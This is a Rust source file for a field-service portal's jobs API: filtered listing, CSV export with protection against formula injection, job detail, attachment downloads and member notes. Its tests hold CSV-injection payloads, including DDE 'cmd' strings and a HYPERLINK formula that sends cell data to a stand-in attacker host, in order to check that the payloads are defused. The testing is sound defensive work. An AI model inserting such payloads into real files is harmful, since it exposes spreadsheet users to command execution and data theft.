//! `/portal/jobs`: the member's jobs — list and filter, export as CSV, detail with status
//! history and attachments, download links once a job is completed, and notes.
//!
//! What a member sees is decided per request from their current rights: the jobs at the
//! sites their scope covers; with `view_jobs` every status, with only
//! `view_completed_jobs` the completed ones; downloads only with `view_completed_jobs`
//! and only once the job is completed.

use std::collections::BTreeMap;

use portico::domain::file::FileOwner;
use portico::domain::hierarchy::SiteRef;
use portico::domain::ids::{FileId, JobId, SiteId, TenantId};
use portico::domain::job::{Job, JobFilter, JobStatus, PortalJobView};
use portico::domain::money;
use portico::domain::note::{NewNote, Note, NoteView};
use portico::domain::rights::Permission;
use portico::domain::scope::Coverage;
use portico::domain::settings::Feature;
use portico::domain::site::Site;
use portico::domain::text::Name;
use portico::http::guard::Portal;
use portico::http::{guard, Reply, Req};
use portico::store::access::Partitions;
use portico::store::listing::Conditions;
use portico::store::{keys, Page, Paging, Tx};
use portico::{App, Error, Result};

use crate::schema::Problem;

/// Rows one export may hold, and bytes (a Lambda response carries at most 6 MB); more
/// is a 422 asking for a narrower filter.
pub const MAX_EXPORT_ROWS: usize = 10_000;
pub const MAX_EXPORT_BYTES: usize = 5 * 1024 * 1024;

/// What the member may do with jobs.
struct JobRights {
    /// `view_jobs`: every status (else only completed jobs, with `view_completed_jobs`).
    all_statuses: bool,
    /// `view_completed_jobs`: download a completed job's attachments.
    download: bool,
}

fn job_rights(portal: &Portal) -> Result<JobRights> {
    portico::domain::group::require_open(&portal.settings, &portal.rights, Feature::Jobs)?;
    let p = &portal.rights.permissions;
    Ok(JobRights {
        all_statuses: p.contains(&Permission::ViewJobs),
        download: p.contains(&Permission::ViewCompletedJobs),
    })
}

/// The job statuses the member may see (empty: every status), or `None` when they may
/// see no jobs at all — as an asset's history shows them.
pub fn visible_statuses(portal: &Portal) -> Option<Vec<JobStatus>> {
    let rights = job_rights(portal).ok()?;
    Some(if rights.all_statuses { Vec::new() } else { vec![JobStatus::Completed] })
}

/// Whether the member's scope covers a site, knowing its customer's path; the site is
/// read only when a division grant needs its current division.
pub async fn covers_site(
    app: &App,
    portal: &Portal,
    site: SiteId,
    customer_path: &portico::domain::hierarchy::CustomerPath,
) -> Result<bool> {
    let scope = &portal.rights.scope;
    if scope.covers(&SiteRef { id: site, customer_path, division_id: None }) {
        return Ok(true);
    }
    if !scope.grants().iter().any(|g| matches!(g.coverage, Coverage::Divisions { .. })) {
        return Ok(false);
    }
    let tenant = portal.principal.tenant;
    Ok(app.store.get::<Site>(keys::site_key(tenant, site)).await?.is_some_and(|s| scope.covers(&s.as_ref())))
}

/// The job, if the member may see it; anything else is a 404.
async fn visible_job(app: &App, portal: &Portal, req: &Req, all_statuses: bool) -> Result<Job> {
    let id = req.path_id("job_id", JobId::parse)?;
    let job = app.store.get::<Job>(keys::job_key(portal.principal.tenant, id)).await?.ok_or(Error::NotFound)?;
    if !all_statuses && !job.is_completed() {
        return Err(Error::NotFound);
    }
    if !covers_site(app, portal, job.site_id, &job.customer_path).await? {
        return Err(Error::NotFound);
    }
    Ok(job)
}

/// The partitions a member's list reads: their scope's, or the one site they filter on
/// (none if that site is not theirs — an empty list, revealing nothing).
pub async fn partitions(app: &App, portal: &Portal, site: Option<SiteId>) -> Result<Partitions> {
    let tenant = portal.principal.tenant;
    match site {
        None => app.store.partitions(tenant, &portal.rights.scope).await,
        Some(id) => {
            let site = app.store.get::<Site>(keys::site_key(tenant, id)).await?;
            let mut p = Partitions::default();
            if site.is_some_and(|s| portal.rights.scope.covers(&s.as_ref())) {
                p.sites.insert(id);
            }
            Ok(p)
        }
    }
}

/// The filter as asked, narrowed to completed jobs for members without `view_jobs`.
/// `None`: nothing can match.
fn effective_filter(mut filter: JobFilter, rights: &JobRights) -> Option<JobFilter> {
    if !rights.all_statuses {
        if !filter.statuses.is_empty() && !filter.statuses.contains(&JobStatus::Completed) {
            return None;
        }
        filter.statuses = vec![JobStatus::Completed];
    }
    Some(filter)
}

/// One page of the jobs in `parts` (the member's partitions for this filter).
async fn page_of_jobs(
    app: &App,
    portal: &Portal,
    parts: &Partitions,
    filter: &JobFilter,
    paging: &Paging,
) -> Result<Page<Job>> {
    let tenant = portal.principal.tenant;
    let (from, to) = (filter.from.map(keys::stamp), filter.to.map(keys::stamp));
    let sources = portico::store::access::sources(
        parts,
        |c| keys::jobs_of_customer(tenant, c),
        |s| keys::jobs_at_site(tenant, s),
        from,
        to,
    );
    let list = format!("portal-jobs|{tenant}|{}|{filter:?}", portal.rights_version());
    let conditions = Conditions::of_jobs(filter);
    let mut page = app.store.newest_first::<Job>(&list, &sources, &conditions, paging).await?;
    // Defence in depth: whatever the keys returned, only the member's jobs leave here.
    page.items.retain(|j| parts.hold(j.customer_id, j.site_id) && filter.admits(j));
    Ok(page)
}

#[utoipa::path(get, path = "/portal/jobs",
    params(
        ("status" = Option<crate::schema::JobStatuses>, Query, description = "Comma-separated: unassigned, assigned, scheduled, in_progress, pending, completed, cancelled", example = "completed,in_progress"),
        ("site_id" = Option<portico::domain::ids::SiteId>, Query),
        ("category" = Option<crate::schema::JobCategories>, Query, description = "Comma-separated: service, repair, install, calibration, inspection, maintenance, emergency, other", example = "repair"),
        ("from" = Option<portico::domain::clock::Bound>, Query, description = "Reported at or after (RFC 3339 or YYYY-MM-DD)"),
        ("to" = Option<portico::domain::clock::Bound>, Query, description = "Reported at or before (RFC 3339, or YYYY-MM-DD for the whole day)"),
        ("limit" = Option<i32>, Query, example = 20), ("cursor" = Option<crate::schema::Cursor>, Query)),
    responses((status = 200, body = crate::schema::PortalJobPage), (status = 400, body = Problem), (status = 403, body = Problem)))]
pub async fn list(app: &App, req: Req) -> Result<Reply> {
    let portal = guard::member(app, &req).await?;
    let rights = job_rights(&portal)?;
    let paging = req.paging()?;
    let filter = JobFilter::parse(|k| req.query(k))?;
    let Some(filter) = effective_filter(filter, &rights) else {
        return Reply::ok(&Page::<PortalJobView> { items: Vec::new(), next_cursor: None });
    };
    let parts = partitions(app, &portal, filter.site_id).await?;
    let page = page_of_jobs(app, &portal, &parts, &filter, &paging).await?;
    Reply::ok(&page.map(|j| j.portal_view(rights.download, false)))
}

/// The home page's jobs: completed ones, newest first, of those completed within
/// [`super::home::WINDOW_DAYS`] days; `None` when the member sees no jobs. Their cursor is
/// the jobs page's for `status=completed`.
pub async fn recently_completed(app: &App, portal: &Portal, parts: &Partitions) -> Result<Option<Page<PortalJobView>>> {
    let Ok(rights) = job_rights(portal) else { return Ok(None) };
    let filter =
        JobFilter { statuses: vec![JobStatus::Completed], categories: Vec::new(), site_id: None, from: None, to: None };
    let since = portico::domain::tenant::now().saturating_sub(time::Duration::days(super::home::WINDOW_DAYS));
    let mut page = page_of_jobs(app, portal, parts, &filter, &super::home::paging()).await?;
    page.items.retain(|j| j.completed_at.is_some_and(|at| at >= since));
    Ok(Some(page.map(|j| j.portal_view(rights.download, false))))
}

#[utoipa::path(get, path = "/portal/jobs/export",
    params(
        ("status" = Option<crate::schema::JobStatuses>, Query), ("site_id" = Option<portico::domain::ids::SiteId>, Query), ("category" = Option<crate::schema::JobCategories>, Query),
        ("from" = Option<portico::domain::clock::Bound>, Query, example = "2026-01-01"), ("to" = Option<portico::domain::clock::Bound>, Query, example = "2026-12-31")),
    responses((status = 200, description = "CSV (UTF-8 with BOM, header row), every job the filter matches", content_type = "text/csv"),
        (status = 400, body = Problem), (status = 403, body = Problem), (status = 422, body = Problem)))]
pub async fn export(app: &App, req: Req) -> Result<Reply> {
    let portal = guard::member(app, &req).await?;
    let rights = job_rights(&portal)?;
    if !portal.rights.permissions.contains(&Permission::ExportJobs) {
        return Err(Error::forbidden("you do not have permission for this"));
    }
    let filter = JobFilter::parse(|k| req.query(k))?;
    let mut jobs = Vec::new();
    if let Some(filter) = effective_filter(filter, &rights) {
        // The scope is resolved once for the whole export, not once per page.
        let parts = partitions(app, &portal, filter.site_id).await?;
        let mut paging = Paging { limit: Paging::MAX_LIMIT, cursor: None };
        loop {
            let page = page_of_jobs(app, &portal, &parts, &filter, &paging).await?;
            jobs.extend(page.items);
            if jobs.len() > MAX_EXPORT_ROWS {
                return Err(Error::unprocessable(format!(
                    "more than {MAX_EXPORT_ROWS} jobs match; narrow the filter (say, a shorter date range)"
                )));
            }
            match page.next_cursor {
                Some(c) => paging.cursor = Some(c),
                None => break,
            }
        }
    }
    let sites = site_names(app, portal.principal.tenant, &jobs).await?;
    let csv = csv_of(&jobs, &sites)?;
    if csv.len() > MAX_EXPORT_BYTES {
        return Err(Error::unprocessable(format!(
            "the export would be larger than {} MiB; narrow the filter (say, a shorter date range)",
            MAX_EXPORT_BYTES / 1024 / 1024
        )));
    }
    Ok(Reply::csv(csv, "jobs.csv"))
}

async fn site_names(app: &App, tenant: TenantId, jobs: &[Job]) -> Result<BTreeMap<SiteId, Name>> {
    let mut ids: Vec<SiteId> = jobs.iter().map(|j| j.site_id).collect();
    ids.sort();
    ids.dedup();
    if ids.is_empty() {
        return Ok(BTreeMap::new());
    }
    let keys: Vec<_> = ids.iter().map(|id| keys::site_key(tenant, *id)).collect();
    Ok(app.store.batch(&keys).await?.all::<Site>()?.into_iter().map(|s| (s.id, s.name)).collect())
}

/// What makes a spreadsheet read the rest of a field as a formula (OWASP, CSV injection).
const FORMULA_STARTS: [char; 4] = ['=', '+', '-', '@'];
/// Where a spreadsheet may start a new field: at any separator it might split on (`,`,
/// or `;` in a Dutch Excel, tab, `|`), a quote (a reader splitting on `;` loses track of
/// quoting a `,` file uses) or a line break.
const FIELD_BREAKS: [char; 7] = [',', ';', '\t', '|', '"', '\r', '\n'];

/// A cell no spreadsheet reads as a formula, whatever separator it splits on: wherever a
/// field could start — the cell's start, or after a separator, quote or line break, and
/// spaces — a formula character gets a `'` before it, as does a leading tab or carriage
/// return. Other text is left as it is; so is a plain number (a negative cost).
fn cell(value: &str) -> String {
    if is_plain_number(value) {
        return value.to_owned();
    }
    let mut out = String::with_capacity(value.len() + 2);
    let mut field_start = true;
    for c in value.chars() {
        let leading_blank = out.is_empty() && matches!(c, '\t' | '\r');
        if (field_start && FORMULA_STARTS.contains(&c)) || leading_blank {
            out.push('\'');
        }
        out.push(c);
        field_start = FIELD_BREAKS.contains(&c) || (field_start && c == ' ');
    }
    out
}

/// `-12.50`, `7`: a number a spreadsheet reads as one, never as a formula.
fn is_plain_number(value: &str) -> bool {
    let digits = value.strip_prefix('-').unwrap_or(value);
    let (whole, fraction) = digits.split_once('.').unwrap_or((digits, "0"));
    !whole.is_empty()
        && !fraction.is_empty()
        && whole.bytes().all(|b| b.is_ascii_digit())
        && fraction.bytes().all(|b| b.is_ascii_digit())
}

const CSV_HEADER: [&str; 15] = [
    "reference",
    "job_id",
    "status",
    "category",
    "work_order_type",
    "site_id",
    "site_name",
    "description",
    "reported_at",
    "scheduled_at",
    "due_at",
    "completed_at",
    "visit_count",
    "cost",
    "currency",
];

/// The export: a UTF-8 byte-order mark (so spreadsheets read the accents right), a
/// header row, one row per job; quoting by the `csv` crate (RFC 4180).
fn csv_of(jobs: &[Job], sites: &BTreeMap<SiteId, Name>) -> Result<String> {
    let time = |t: Option<portico::domain::tenant::Timestamp>| t.map(keys::stamp).unwrap_or_default();
    let mut w = csv::WriterBuilder::new().terminator(csv::Terminator::CRLF).from_writer(Vec::new());
    let fail = |e: csv::Error| Error::Internal(anyhow::Error::new(e).context("writing CSV"));
    w.write_record(CSV_HEADER).map_err(fail)?;
    for j in jobs {
        let row = [
            j.external_ref.to_string(),
            j.id.to_string(),
            j.status.as_str().to_owned(),
            j.category.as_str().to_owned(),
            j.work_order_type.as_ref().map(|c| c.to_string()).unwrap_or_default(),
            j.site_id.to_string(),
            sites.get(&j.site_id).map(|n| n.to_string()).unwrap_or_default(),
            j.description.as_ref().map(|d| d.to_string()).unwrap_or_default(),
            time(Some(j.reported_at)),
            time(j.scheduled_at),
            time(j.due_at),
            time(j.completed_at),
            j.visit_count.to_string(),
            match (j.cost, &j.currency) {
                (Some(cost), Some(currency)) => money::decimal(cost, currency),
                _ => String::new(),
            },
            j.currency.as_ref().map(|c| c.to_string()).unwrap_or_default(),
        ];
        w.write_record(row.iter().map(|v| cell(v))).map_err(fail)?;
    }
    let bytes = w.into_inner().map_err(|e| Error::Internal(anyhow::anyhow!("writing CSV: {e}")))?;
    let text = String::from_utf8(bytes).map_err(|e| Error::Internal(e.into()))?;
    Ok(format!("\u{feff}{text}"))
}

#[utoipa::path(get, path = "/portal/jobs/{job_id}",
    params(("job_id" = portico::domain::ids::JobId, Path, example = "job_01JD8Z6V5Q2W3E4R5T6Y7A8B9S")),
    responses((status = 200, body = PortalJobView), (status = 403, body = Problem), (status = 404, body = Problem)))]
pub async fn get(app: &App, req: Req) -> Result<Reply> {
    let portal = guard::member(app, &req).await?;
    let rights = job_rights(&portal)?;
    let job = visible_job(app, &portal, &req, rights.all_statuses).await?;
    Reply::ok(&job.portal_view(rights.download, true))
}

#[utoipa::path(get, path = "/portal/jobs/{job_id}/files/{file_id}",
    params(("job_id" = portico::domain::ids::JobId, Path, example = "job_01JD8Z6V5Q2W3E4R5T6Y7A8B9S"), ("file_id" = portico::domain::ids::FileId, Path, example = "file_01JD8Z6V5Q2W3E4R5T6Y7A8B9W")),
    responses((status = 200, body = portico::domain::file::DownloadView), (status = 403, body = Problem, description = "Without view_completed_jobs, or the job is not completed yet"), (status = 404, body = Problem)))]
pub async fn file(app: &App, req: Req) -> Result<Reply> {
    let portal = guard::member(app, &req).await?;
    let rights = job_rights(&portal)?;
    if !rights.download {
        return Err(Error::forbidden("you do not have permission for this"));
    }
    let job = visible_job(app, &portal, &req, rights.all_statuses).await?;
    let file_id = req.path_id("file_id", FileId::parse)?;
    if !job.attachments.iter().any(|a| a.file_id == file_id) {
        return Err(Error::NotFound);
    }
    if !job.is_completed() {
        return Err(Error::forbidden("a job's attachments can be downloaded once the job is completed"));
    }
    let tenant = portal.principal.tenant;
    let stored = app
        .store
        .get::<portico::domain::file::StoredFile>(keys::file_key(tenant, file_id))
        .await?
        .ok_or(Error::NotFound)?;
    crate::files::link(app, tenant, &stored).await
}

#[utoipa::path(post, path = "/portal/jobs/{job_id}/notes", request_body(content = NewNote, example = json!({"text": "The pressure dropped again last night, around 1.2 bar at 06:00."})),
    params(("job_id" = portico::domain::ids::JobId, Path, example = "job_01JD8Z6V5Q2W3E4R5T6Y7A8B9S"), ("Idempotency-Key" = Option<String>, Header)),
    responses((status = 201, body = NoteView), (status = 400, body = Problem), (status = 403, body = Problem), (status = 404, body = Problem)))]
pub async fn add_note(app: &App, req: Req) -> Result<Reply> {
    let portal = guard::member(app, &req).await?;
    portico::domain::group::require(&portal.settings, &portal.rights, Feature::Jobs, Permission::AddJobNotes)?;
    let tenant = portal.principal.tenant;
    let input: NewNote = req.body()?;
    input.validate()?;
    let job = visible_job(app, &portal, &req, true).await?;
    let mut tx = Tx::new(tenant, portal.actor());
    let owner = FileOwner::Customer { customer_id: portal.member.customer_id };
    let files = crate::files::attachable(app, tenant, &owner, &input.file_ids, &mut tx).await?;
    let author = Name::parse(&portal.member.full_name()).map_err(|e| anyhow::anyhow!("member name: {e}"))?;
    let note = Note::create(&job, portal.actor().0, author, input, files.iter().map(|f| f.file_ref()).collect());
    let reply = Reply::created(&note.view())?;
    tx.create(&note, "note.created", "the note exists")?;
    tx.require(keys::job_key(tenant, job.id));
    app.store.commit(tx).await?;
    Ok(reply)
}

#[utoipa::path(get, path = "/portal/jobs/{job_id}/notes",
    params(("job_id" = portico::domain::ids::JobId, Path, example = "job_01JD8Z6V5Q2W3E4R5T6Y7A8B9S"), ("limit" = Option<i32>, Query), ("cursor" = Option<crate::schema::Cursor>, Query)),
    responses((status = 200, body = crate::schema::NotePage), (status = 403, body = Problem), (status = 404, body = Problem)))]
pub async fn notes(app: &App, req: Req) -> Result<Reply> {
    let portal = guard::member(app, &req).await?;
    let rights = job_rights(&portal)?;
    let paging = req.paging()?;
    let job = visible_job(app, &portal, &req, rights.all_statuses).await?;
    let page =
        app.store.page::<Note>("job-notes", &keys::notes_of_job(portal.principal.tenant, job.id), &paging).await?;
    Reply::ok(&page.map(|n| n.view()))
}

#[cfg(test)]
mod tests {
    use super::*;
    use portico::domain::hierarchy::CustomerPath;
    use portico::domain::ids::CustomerId;
    use portico::domain::job::JobInput;
    use portico::domain::text::ExternalRef;

    fn job(reference: &str, description: &str) -> Job {
        let input: JobInput = serde_json::from_value(serde_json::json!({
            "customer_id": CustomerId::generate(), "site_id": SiteId::generate(), "category": "repair",
            "status": "completed", "description": description, "cost": 123456, "currency": "EUR",
            "reported_at": "2026-03-01T08:00:00Z"
        }))
        .unwrap();
        Job::create(ExternalRef::parse(reference).unwrap(), input, CustomerPath::root(CustomerId::generate()), vec![])
    }

    #[test]
    fn the_csv_quotes_commas_quotes_and_line_breaks_and_keeps_utf8() {
        let jobs = [job("WO-1", "Boiler, \"urgent\"\nsecond line – café"), job("WO-2", "=HYPERLINK(\"x\")")];
        let sites = BTreeMap::from([(jobs[0].site_id, Name::parse("Gebäude Nord").unwrap())]);
        let text = csv_of(&jobs, &sites).unwrap();
        let text = text.strip_prefix('\u{feff}').expect("a byte-order mark");
        let mut r = csv::Reader::from_reader(text.as_bytes());
        assert_eq!(r.headers().unwrap().iter().collect::<Vec<_>>(), CSV_HEADER);
        let rows: Vec<csv::StringRecord> = r.records().map(|r| r.unwrap()).collect();
        assert_eq!(rows.len(), 2);
        assert_eq!(&rows[0][0], "WO-1");
        assert_eq!(&rows[0][6], "Gebäude Nord");
        assert_eq!(&rows[0][7], "Boiler, \"urgent\"\nsecond line – café");
        assert_eq!(&rows[0][8], "2026-03-01T08:00:00Z");
        assert_eq!(&rows[0][13], "1234.56");
        assert_eq!(&rows[1][7], "'=HYPERLINK(\"x\")", "formulas are defused");
    }

    #[test]
    fn the_csv_gives_each_cost_in_its_currency_units() {
        let cost = |currency: &str, minor: i64| {
            let mut j = job("WO-1", "Pump");
            (j.cost, j.currency) = (Some(minor), Some(portico::domain::currency::Currency::parse(currency).unwrap()));
            j
        };
        let jobs = [cost("JPY", 1500), cost("KWD", 1234), cost("EUR", 5)];
        let text = csv_of(&jobs, &BTreeMap::new()).unwrap();
        let mut r = csv::Reader::from_reader(text.strip_prefix('\u{feff}').unwrap().as_bytes());
        let amounts: Vec<(String, String)> =
            r.records().map(|r| r.unwrap()).map(|r| (r[13].to_owned(), r[14].to_owned())).collect();
        let expected = [("1500", "JPY"), ("1.234", "KWD"), ("0.05", "EUR")];
        assert_eq!(amounts, expected.map(|(a, c)| (a.to_owned(), c.to_owned())));
    }

    /// Every field a spreadsheet could make of `csv`, splitting on `delimiter`, with or
    /// without honouring quotes, as it would start (leading spaces and quotes dropped).
    fn fields_read_with(csv: &str, delimiter: u8, quoting: bool) -> Vec<String> {
        let mut r = csv::ReaderBuilder::new()
            .delimiter(delimiter)
            .quoting(quoting)
            .has_headers(false)
            .flexible(true)
            .from_reader(csv.as_bytes());
        r.records()
            .flat_map(|r| r.unwrap().iter().map(|f| f.trim_start_matches([' ', '"']).to_owned()).collect::<Vec<_>>())
            .collect()
    }

    #[test]
    fn no_cell_reads_as_a_formula_under_any_separator() {
        let attacks = [
            "Leak;=cmd|' /C calc'!A0",
            "=HYPERLINK(\"http://evil.example/?\"&A1)",
            "Boiler\t+1+1",
            "pump|@SUM(1)",
            "note, -2+3+cmd|' /C calc'!A0",
            "quoted \"=1+1\" inside",
            "line\n=1+1",
            "line\r\n @SUM(A1)",
            "@x",
            "-1+1",
            "-1",
            "a;  =1",
        ];
        let jobs: Vec<Job> = attacks.iter().enumerate().map(|(i, a)| job(&format!("WO-{i}"), a)).collect();
        let sites = BTreeMap::from([(jobs[0].site_id, Name::parse("-Gebouw;=Noord").unwrap())]);
        let text = csv_of(&jobs, &sites).unwrap();
        for delimiter in [b',', b';', b'\t', b'|'] {
            for quoting in [true, false] {
                for field in fields_read_with(&text, delimiter, quoting) {
                    assert!(
                        !field.starts_with(FORMULA_STARTS) || is_plain_number(&field),
                        "{:?}-separated (quotes {quoting}): {field:?}",
                        delimiter as char
                    );
                }
            }
        }
    }

    #[test]
    fn defused_text_stays_readable_and_plain_text_is_untouched() {
        assert_eq!(cell("Leak;=cmd|' /C calc'!A0"), "Leak;'=cmd|' /C calc'!A0");
        assert_eq!(cell("=1+1"), "'=1+1");
        assert_eq!(cell("a; -b"), "a; '-b");
        assert_eq!(cell("\tx"), "'\tx");
        for plain in
            ["Boiler, \"urgent\"\nsecond line – café", "Room 3 - kitchen", "a@b.example", "WO-7", "-12.50", "42"]
        {
            assert_eq!(cell(plain), plain);
        }
        assert_eq!(cell("-12.50x"), "'-12.50x");
        assert_eq!(cell("-"), "'-");
    }

    #[test]
    fn members_without_view_jobs_see_only_completed_jobs() {
        let only_completed = JobRights { all_statuses: false, download: true };
        let f = effective_filter(JobFilter::default(), &only_completed).unwrap();
        assert_eq!(f.statuses, [JobStatus::Completed]);
        let open = JobFilter { statuses: vec![JobStatus::InProgress], ..Default::default() };
        assert!(effective_filter(open.clone(), &only_completed).is_none());
        let all = JobRights { all_statuses: true, download: false };
        assert_eq!(effective_filter(open.clone(), &all), Some(open));
    }
}
